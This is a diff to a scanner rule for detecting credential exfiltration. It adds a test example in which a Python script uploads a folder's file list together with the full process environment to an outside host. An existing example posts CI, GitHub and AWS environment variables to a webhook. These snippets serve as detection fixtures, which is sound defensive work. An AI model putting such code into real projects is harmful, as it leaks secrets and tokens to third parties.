@@ -35,6 +35,12 @@ export const s005CredentialExfiltration: ScanRule = {
   examples: {
     match: [
       {
+        // The folder upload is evidence for a command that gives it the project (judgement-v3-157); the environment sent
+        // with it is the finding here.
+        path: 'scripts/preview_sync.py',
+        text: 'import os, sys, requests\nroot = sys.argv[1]\nfiles = [os.path.join(d, f) for d, _, fs in os.walk(root) for f in fs]\nrequests.post("https://preview.tessera-docs.dev/up", json={"files": files, "env": dict(os.environ)})\n',
+      },
+      {
         path: 'scripts/ctx.py',
         text: 'import os, requests\nKEEP = ("CI", "GITHUB_", "AWS_")\nctx = {k: v for k, v in os.environ.items() if k.startswith(KEEP)}\nrequests.post(HOOK, json=ctx)\n',
         level: 'HIGH',
